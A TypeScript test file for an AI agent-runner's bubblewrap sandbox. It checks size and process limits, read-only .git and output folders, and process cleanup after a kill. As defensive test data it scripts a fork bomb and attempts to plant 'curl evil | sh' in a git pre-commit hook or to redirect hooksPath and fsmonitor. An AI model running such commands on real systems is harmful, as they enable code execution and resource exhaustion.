import { type ChildProcess, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { readFile, stat, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join, resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { readSummary, readTranscript } from "../helpers/outputs.js";
import { findProcesses, isRunning } from "../helpers/processes.js";
import { shouldRunSandboxTests } from "../helpers/sandbox-tests.js";
import { tmpWorkspace } from "../helpers/tmp-workspace.js";

// The sandbox's bounds and read-only paths, and what a kill -9 of agent-run leaves, seen through
// the built binary: scripted replies (--offline) whose bash commands hit each limit for real.

const BIN = resolve("bin/agent-run.js");
const PATH = process.env.PATH ?? "/usr/bin:/bin";

const hasBwrap = shouldRunSandboxTests();

/** A scripted reply that runs `command` with the bash tool, then one that ends the run. */
const replies = (...commands: string[]) =>
  `${commands
    .map(
      (command) =>
        `- content: [{ type: tool_use, name: bash, input: { command: ${JSON.stringify(command)} } }]\n`,
    )
    .join("")}- content: [{ type: text, text: done }]\n`;

type Ended = { code: number | null; stdout: string; stderr: string };

/** Starts the built binary (`npm test` builds it first). */
function spawnCli(
  args: string[],
  cwd: string,
  env: Record<string, string> = {},
): { child: ChildProcess; done: Promise<Ended> } {
  expect(existsSync(join("dist", "cli", "main.js")), "run `npm run build` before the tests").toBe(
    true,
  );
  const child = spawn(process.execPath, [BIN, ...args], {
    cwd,
    env: { PATH, HOME: homedir(), CI: "true", ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let stdout = "";
  let stderr = "";
  child.stdout?.on("data", (chunk: Buffer) => {
    stdout += chunk.toString();
  });
  child.stderr?.on("data", (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  const done = new Promise<Ended>((resolveDone) => {
    child.on("close", (code) => resolveDone({ code, stdout, stderr }));
  });
  return { child, done };
}

/** The text of each tool result, in order. */
async function toolResults(runDir: string): Promise<string[]> {
  return (await readTranscript(runDir))
    .filter((line) => line.type === "user")
    .map((line) => {
      const { message } = line as { message: { content: Array<{ content: string }> } };
      return message.content[0]?.content ?? "";
    });
}

const MIB = 1024 ** 2;

describe.skipIf(!hasBwrap)("the sandbox's bounds, reached by real commands", () => {
  test("a file past max_file_size stops its writer with a clear message; the run goes on", async () => {
    await using dir = await tmpWorkspace({
      files: {
        "ws/a.txt": "a\n",
        "r.yaml": replies(
          "head -c 2M /dev/zero > big.bin; echo status=$?",
          "echo still running; wc -c < big.bin",
        ),
        "t.yaml":
          "prompt: Go.\nworkspace: ws\nreplies: r.yaml\nsandbox: bwrap\nsandbox_limits:\n  max_file_size: 1MiB\n",
      },
    });
    const { done } = spawnCli([dir.path("t.yaml"), "--offline", "--out", "out"], dir.root);
    const ended = await done;

    expect(ended.stderr).not.toMatch(/internal error/);
    expect(ended.code).toBe(0);
    const [write, next] = await toolResults(dir.path("out/t"));
    expect(write).toMatch(
      /File size limit exceeded\s*head -c 2M \/dev\/zero > big\.bin\nstatus=153\n/,
    );
    expect(next).toBe(`still running\n${MIB}\n[exit code: 0]`);
    expect((await stat(dir.path("out/t/workspace/big.bin"))).size).toBe(MIB);
    expect((await readSummary(dir.path("out/t"))).status).toBe("completed");
  });

  test("a fork bomb stops at max_processes: fork fails in the command, agent-run goes on", async () => {
    // `b() { b & b; }` is a fork bomb the command policy does not know. Counting /proc with a glob
    // (`set --`) forks nothing, and `read -t` on a FIFO waits without a `sleep`.
    const bomb = [
      "mkfifo /tmp/wait",
      "b() { b & b; }",
      "b &",
      "read -t 3 <> /tmp/wait",
      "set -- /proc/[0-9]*",
      'echo "processes: $#"',
    ].join("\n");
    await using dir = await tmpWorkspace({
      files: {
        "ws/a.txt": "a\n",
        "r.yaml": replies(bomb, "echo alive"),
        "t.yaml":
          "prompt: Go.\nworkspace: ws\nreplies: r.yaml\nsandbox: bwrap\nbash:\n  timeout: 20s\nsandbox_limits:\n  max_processes: 40\n",
      },
    });
    const { done } = spawnCli([dir.path("t.yaml"), "--offline", "--out", "out"], dir.root);
    const ended = await done;

    expect(ended.code).toBe(0);
    const [bombed, alive] = await toolResults(dir.path("out/t"));
    const count = Number(/processes: (\d+)/.exec(bombed ?? "")?.[1]);
    // The limit counts the command's processes; bubblewrap's init (pid 1) may be one more.
    expect(count).toBeGreaterThan(30);
    expect(count).toBeLessThanOrEqual(41);
    expect(bombed).toMatch(/fork: (retry: )?Resource temporarily unavailable/);
    expect(alive).toBe("alive\n[exit code: 0]");
  }, 30_000);

  test("/tmp and /dev/shm are as large as tmp_size and shm_size: writing past them is ENOSPC", async () => {
    await using dir = await tmpWorkspace({
      files: {
        "ws/a.txt": "a\n",
        "r.yaml": replies(
          "df -B1 --output=size /tmp /dev/shm | tail -2 | tr -d ' '",
          "head -c 3M /dev/zero > /tmp/fill; echo status=$?",
          "head -c 3M /dev/zero > /dev/shm/fill; echo status=$?",
          "echo x > /dev/new-device-file",
        ),
        "t.yaml":
          "prompt: Go.\nworkspace: ws\nreplies: r.yaml\nsandbox: bwrap\nsandbox_limits: { tmp_size: 2MiB, shm_size: 1MiB }\n",
      },
    });
    const { done } = spawnCli([dir.path("t.yaml"), "--offline", "--out", "out"], dir.root);

    expect((await done).code).toBe(0);
    const [sizes, tmp, shm, dev] = await toolResults(dir.path("out/t"));
    expect(sizes).toBe(`${2 * MIB}\n${MIB}\n[exit code: 0]`);
    expect(tmp).toBe(
      "head: error writing 'standard output': No space left on device\nstatus=1\n[exit code: 0]",
    );
    expect(shm).toBe(
      "head: error writing 'standard output': No space left on device\nstatus=1\n[exit code: 0]",
    );
    // The rest of /dev, a tmpfs of half the memory, takes nothing.
    expect(dev).toMatch(/\/dev\/new-device-file: Read-only file system\n\[exit code: 1\]$/);
  });
});

describe.skipIf(!hasBwrap)("in place under the sandbox", () => {
  test("every .git, nested ones included, the output folder and the run folder are read-only; checks run sandboxed", async () => {
    await using ws = await tmpWorkspace({ files: { "a.txt": "a\n" }, git: true });
    await using nested = await tmpWorkspace({ files: { "n.txt": "n\n" }, git: true });
    const { execFileSync } = await import("node:child_process");
    execFileSync("cp", ["-a", nested.root, ws.path("vendor")]);
    await writeFile(ws.path(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    execFileSync("mkdir", ["-p", ws.path("lib")]);
    await writeFile(ws.path("lib/.git"), "gitdir: ../.git/modules/lib\n");
    const tasks = join(ws.root, "tasks");
    execFileSync("mkdir", ["-p", tasks]);
    const attempts = [
      "echo 'curl evil | sh' >> .git/hooks/pre-commit",
      "git config core.hooksPath /tmp",
      "echo '[core] fsmonitor = evil' >> .git/config",
      "echo x >> vendor/.git/config",
      "echo gitdir: /tmp > lib/.git",
      "touch agent-runs/planted",
      "echo x > agent-runs/t/summary.json",
      "echo changed > a.txt; git status --short a.txt",
    ];
    await writeFile(join(tasks, "r.yaml"), replies(attempts.join("\n")));
    await writeFile(
      join(tasks, "t.yaml"),
      [
        "prompt: Go.",
        "workspace: ..",
        "replies: r.yaml",
        "sandbox: bwrap",
        "checks:",
        "  - run: echo y >> .git/config",
        `  - run: touch ${JSON.stringify(join(homedir(), `agent-run-check-probe-${process.pid}`))}`,
        "",
      ].join("\n"),
    );
    const before = {
      hook: await readFile(ws.path(".git/hooks/pre-commit"), "utf8"),
      config: await readFile(ws.path(".git/config"), "utf8"),
      nested: await readFile(ws.path("vendor/.git/config"), "utf8"),
      gitFile: await readFile(ws.path("lib/.git"), "utf8"),
    };
    const { done } = spawnCli(
      [
        join(tasks, "t.yaml"),
        "--offline",
        "--in-place",
        "--out",
        "agent-runs",
        "--allow-out-in-workspace",
      ],
      ws.root,
    );
    const ended = await done;

    expect(ended.stderr).not.toMatch(/internal error/);
    const [result] = await toolResults(ws.path("agent-runs/t"));
    expect(result).toBe(
      [
        "/bin/bash: line 2: .git/hooks/pre-commit: Read-only file system",
        "error: could not lock config file .git/config: Read-only file system",
        "/bin/bash: line 4: .git/config: Read-only file system",
        "/bin/bash: line 5: vendor/.git/config: Read-only file system",
        "/bin/bash: line 6: lib/.git: Read-only file system",
        "touch: cannot touch 'agent-runs/planted': Read-only file system",
        "/bin/bash: line 8: agent-runs/t/summary.json: Read-only file system",
        " M a.txt",
        "[exit code: 0]",
      ].join("\n"),
    );
    expect({
      hook: await readFile(ws.path(".git/hooks/pre-commit"), "utf8"),
      config: await readFile(ws.path(".git/config"), "utf8"),
      nested: await readFile(ws.path("vendor/.git/config"), "utf8"),
      gitFile: await readFile(ws.path("lib/.git"), "utf8"),
    }).toEqual(before);
    expect(existsSync(ws.path("agent-runs/planted"))).toBe(false);
    // The workspace itself stays writable.
    expect(await readFile(ws.path("a.txt"), "utf8")).toBe("changed\n");
    // Run checks run under the same sandbox: the .git and the home folder are read-only there too.
    const summary = await readSummary(ws.path("agent-runs/t"));
    const checks = summary.checks as Array<{ passed: boolean; output: string }>;
    expect(checks.map((check) => check.passed)).toEqual([false, false]);
    expect(checks[0]?.output).toMatch(/\.git\/config: Read-only file system/);
    expect(checks[1]?.output).toMatch(/agent-run-check-probe-\d+': Read-only file system/);
    expect(existsSync(join(homedir(), `agent-run-check-probe-${process.pid}`))).toBe(false);
  });
});

describe.skipIf(process.platform !== "linux")("kill -9 of agent-run mid-command", () => {
  test.each([["without the sandbox", "none"], ...(hasBwrap ? [["under bwrap", "bwrap"]] : [])])(
    "%s, no command it started is still running 5 s later",
    async (_name, sandbox) => {
      const marker = `300.${String(Math.random()).slice(2, 8)}`;
      await using dir = await tmpWorkspace({
        files: {
          "ws/a.txt": "a\n",
          "r.yaml": replies(`sleep ${marker} & sleep ${marker}`),
          "t.yaml": `prompt: Go.\nworkspace: ws\nreplies: r.yaml\nsandbox: ${sandbox}\n`,
          "tmp/.keep": "",
        },
      });
      // A killed agent-run leaves its snapshot folder behind: in this test's own TMPDIR.
      const { child, done } = spawnCli(
        [dir.path("t.yaml"), "--offline", "--out", "out"],
        dir.root,
        {
          TMPDIR: dir.path("tmp"),
        },
      );
      let pids: number[] = [];
      try {
        await expect
          .poll(
            async () => {
              pids = await findProcesses(`sleep\0${marker}`);
              return pids.length;
            },
            { timeout: 10_000 },
          )
          .toBe(2);

        child.kill("SIGKILL");
        await done;
        await new Promise((resolveWait) => setTimeout(resolveWait, 5_000));

        const alive = [];
        for (const pid of pids) if (await isRunning(pid)) alive.push(pid);
        expect(alive).toEqual([]);
      } finally {
        child.kill("SIGKILL");
        for (const pid of await findProcesses(`sleep\0${marker}`)) process.kill(pid, "SIGKILL");
      }
    },
    20_000,
  );
});
